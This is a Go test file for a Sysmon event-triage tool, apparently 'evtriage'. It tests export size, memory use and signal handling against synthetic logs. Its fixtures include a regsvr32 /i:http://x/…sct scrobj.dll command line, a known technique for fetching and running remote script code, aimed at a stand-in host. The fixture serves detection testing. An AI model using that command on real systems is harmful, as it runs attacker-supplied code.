//go:build linux

package main

import (
	"bytes"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/evtriage/evtriage/parser"
)

// buildBinary builds evtriage (without the race detector, whose shadow
// memory would distort RSS) into dir, or skips without a go tool.
func buildBinary(t *testing.T, dir string) string {
	t.Helper()
	goTool, err := exec.LookPath("go")
	if err != nil {
		t.Skip("go tool not on PATH")
	}
	bin := filepath.Join(dir, "evtriage")
	cmd := exec.Command(goTool, "build", "-o", bin, ".")
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("go build: %v\n%s", err, out)
	}
	return bin
}

// procCreate is a Sysmon 1 of process n (pid 1000+n) whose parent is p.
func procCreate(n, parent int, image, original, parentImage string) *parser.Event {
	g := func(i int) string { return fmt.Sprintf("{365ABB72-0000-0000-0000-%012d}", i) }
	return &parser.Event{
		Provider: "Microsoft-Windows-Sysmon", Channel: "Microsoft-Windows-Sysmon/Operational", Computer: "WS1",
		EventID: 1, Version: 5, RecordID: uint64(n + 1), Time: time.Date(2024, 3, 1, 10, 0, 0, 0, time.UTC).Add(time.Duration(n) * time.Millisecond),
		Fields: []parser.Field{
			{Name: "ProcessGuid", Value: g(n)}, {Name: "ProcessId", Value: fmt.Sprint(1000 + n)},
			{Name: "Image", Value: image}, {Name: "OriginalFileName", Value: original},
			{Name: "CommandLine", Value: fmt.Sprintf(`%s /s /i:http://x/%d.sct scrobj.dll`, filepath.Base(image), n)},
			{Name: "User", Value: `WS1\u`},
			{Name: "ParentProcessGuid", Value: g(parent)}, {Name: "ParentProcessId", Value: fmt.Sprint(1000 + parent)},
			{Name: "ParentImage", Value: parentImage},
		},
	}
}

// imageLoad is a Sysmon 7 of process 1 loading an unsigned DLL.
func imageLoad(rec int) *parser.Event {
	return &parser.Event{
		Provider: "Microsoft-Windows-Sysmon", Channel: "Microsoft-Windows-Sysmon/Operational", Computer: "WS1",
		EventID: 7, Version: 3, RecordID: uint64(rec), Time: time.Date(2024, 3, 1, 10, 0, 0, 0, time.UTC).Add(time.Duration(rec) * time.Millisecond),
		Fields: []parser.Field{
			{Name: "ProcessGuid", Value: "{365ABB72-0000-0000-0000-000000000001}"}, {Name: "ProcessId", Value: "1001"},
			{Name: "Image", Value: `C:\Windows\System32\regsvr32.exe`},
			{Name: "ImageLoaded", Value: fmt.Sprintf(`C:\Users\u\AppData\%d.dll`, rec)}, {Name: "Signed", Value: "false"},
		},
	}
}

// fanOutLog is about 1 MB: one regsvr32 with 700 children and 700 unsigned
// image loads; each load is a finding on regsvr32, which used to carry the
// whole list of its children (findings × children).
func fanOutLog(t *testing.T, dir string) string {
	const reg = `C:\Windows\System32\regsvr32.exe`
	evs := []*parser.Event{procCreate(1, 0, reg, "REGSVR32.EXE", `C:\Windows\explorer.exe`)}
	for n := 2; n <= 701; n++ {
		evs = append(evs, procCreate(n, 1, `C:\Windows\System32\cmd.exe`, "Cmd.Exe", reg), imageLoad(10000+n))
	}
	return writeLog(t, dir, "fanout.evtx", evs)
}

// chainLog is 2,000 nested renamed regsvr32s, each a finding whose
// lineage used to hold all of its ancestors.
func chainLog(t *testing.T, dir string) string {
	var evs []*parser.Event
	for n := 1; n <= 2000; n++ {
		evs = append(evs, procCreate(n, n-1, fmt.Sprintf(`C:\Users\u\AppData\r%d.exe`, n), "REGSVR32.EXE", fmt.Sprintf(`C:\Users\u\AppData\r%d.exe`, n-1)))
	}
	return writeLog(t, dir, "chain.evtx", evs)
}

// TestExportBounded: exports of crafted fan-out and chain logs grow with
// the findings, not findings × processes: at most 64 MB of output and
// 256 MB of peak RSS for the whole hunt (measured on a real process).
func TestExportBounded(t *testing.T) {
	if testing.Short() {
		t.Skip("builds the binary")
	}
	dir := t.TempDir()
	bin := buildBinary(t, dir)
	logs := []string{fanOutLog(t, dir), chainLog(t, dir)}
	for _, log := range logs {
		for _, format := range []string{"json", "jsonl"} {
			name := filepath.Base(log) + " " + format
			t.Run(name, func(t *testing.T) {
				fi, _ := os.Stat(log)
				out := filepath.Join(dir, "out."+format)
				cmd := exec.Command(bin, "hunt", "--format", format, "-o", out, log)
				var stderr bytes.Buffer
				cmd.Stderr = &stderr
				if err := cmd.Run(); err != nil {
					t.Fatalf("%v: %s", err, stderr.String())
				}
				ofi, err := os.Stat(out)
				if err != nil {
					t.Fatal(err)
				}
				rss := cmd.ProcessState.SysUsage().(*syscall.Rusage).Maxrss << 10 // KiB on Linux
				t.Logf("%s: %d byte log → %d byte export, peak RSS %d MiB", name, fi.Size(), ofi.Size(), rss>>20)
				if ofi.Size() > 64<<20 {
					t.Errorf("export of %d bytes, want ≤ 64 MiB", ofi.Size())
				}
				if rss > 256<<20 {
					t.Errorf("peak RSS %d MiB, want ≤ 256 MiB", rss>>20)
				}
				data, _ := os.ReadFile(out)
				if n := strings.Count(string(data), "ImageLoaded") + strings.Count(string(data), "REGSVR32.EXE"); n < 1400 {
					t.Errorf("only %d findings of the crafted processes exported", n)
				}
			})
		}
	}
}

// waitTemp polls dir until a temporary file of the output named base holds
// at least min bytes (-1: exists) and returns it; "" when cmd ended first.
func waitTemp(dir, base string, min int64, exited <-chan struct{}) string {
	for {
		select {
		case <-exited:
			return ""
		default:
		}
		tmps, _ := filepath.Glob(filepath.Join(dir, "."+base+".tmp-*"))
		for _, p := range tmps {
			if fi, err := os.Stat(p); err == nil && fi.Size() >= min {
				return p
			}
		}
		time.Sleep(time.Millisecond)
	}
}

// TestInterruptedOutput sends SIGINT, SIGTERM and SIGHUP to hunt and gen
// while they write their output (the temporary file exists and, for the
// export stage, holds data): the target keeps its old content, no
// temporary file is left, and the exit status is 128 + the signal. The
// process is stopped (SIGSTOP) before the signal is sent, so that it
// cannot finish in between.
func TestInterruptedOutput(t *testing.T) {
	if testing.Short() {
		t.Skip("builds the binary")
	}
	dir := t.TempDir()
	bin := buildBinary(t, dir)
	const reg = `C:\Windows\System32\regsvr32.exe`
	evs := []*parser.Event{procCreate(1, 0, reg, "REGSVR32.EXE", `C:\Windows\explorer.exe`)}
	for n := 2; n <= 4000; n++ {
		evs = append(evs, procCreate(n, 1, `C:\Windows\System32\cmd.exe`, "Cmd.Exe", reg), imageLoad(10000+n))
	}
	big := writeLog(t, dir, "big.evtx", evs)
	type stage struct {
		name string
		args []string
		min  int64 // temporary file size to wait for: 0 as soon as it exists
	}
	stages := []stage{
		{"hunt, while hunting", []string{"hunt", "--format", "json", "-o", "OUT", big}, 0},
		{"hunt, while exporting", []string{"hunt", "--format", "json", "-o", "OUT", big}, 1},
		{"gen, while generating", []string{"gen", "--events", "400000", "-o", "OUT"}, 1},
	}
	for _, sig := range []syscall.Signal{syscall.SIGINT, syscall.SIGTERM, syscall.SIGHUP} {
		for _, st := range stages {
			t.Run(fmt.Sprintf("%s %v", st.name, sig), func(t *testing.T) {
				outDir := t.TempDir()
				target := filepath.Join(outDir, "target.out")
				if err := os.WriteFile(target, []byte("precious"), 0o644); err != nil {
					t.Fatal(err)
				}
				args := append([]string(nil), st.args...)
				for i := range args {
					if args[i] == "OUT" {
						args[i] = target
					}
				}
				cmd := exec.Command(bin, args...)
				var stderr bytes.Buffer
				cmd.Stderr = &stderr
				if err := cmd.Start(); err != nil {
					t.Fatal(err)
				}
				exited := make(chan struct{})
				var werr error
				go func() { werr = cmd.Wait(); close(exited) }()
				tmp := waitTemp(outDir, "target.out", st.min, exited)
				if tmp == "" {
					t.Fatalf("finished before the signal could be sent: %s", stderr.String())
				}
				cmd.Process.Signal(syscall.SIGSTOP)
				if _, err := os.Stat(tmp); err != nil {
					cmd.Process.Signal(syscall.SIGCONT)
					<-exited
					t.Fatalf("output committed before the signal could be sent")
				}
				cmd.Process.Signal(sig)
				cmd.Process.Signal(syscall.SIGCONT)
				<-exited
				if code := cmd.ProcessState.ExitCode(); code != 128+int(sig) {
					t.Errorf("exit %d (%v), want %d; stderr %s", code, werr, 128+int(sig), stderr.String())
				}
				if b, _ := os.ReadFile(target); string(b) != "precious" {
					t.Errorf("target changed: %.20q", b)
				}
				if left, _ := filepath.Glob(filepath.Join(outDir, ".*tmp-*")); len(left) > 0 {
					t.Errorf("temporary files left: %v", left)
				}
				if !strings.Contains(stderr.String(), "interrupted") {
					t.Errorf("stderr %q does not say it was interrupted", stderr.String())
				}
			})
		}
	}
}
